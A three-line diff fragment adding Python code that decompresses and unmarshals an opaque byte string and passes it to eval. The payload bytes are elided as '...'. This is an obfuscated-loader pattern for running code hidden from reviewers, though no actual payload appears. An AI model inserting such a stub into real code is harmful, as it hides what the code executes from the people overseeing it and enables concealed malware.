@@ -1,0 +1,3 @@
+import zlib, marshal
+code = b'...'
+eval(marshal.loads(zlib.decompress(code)))
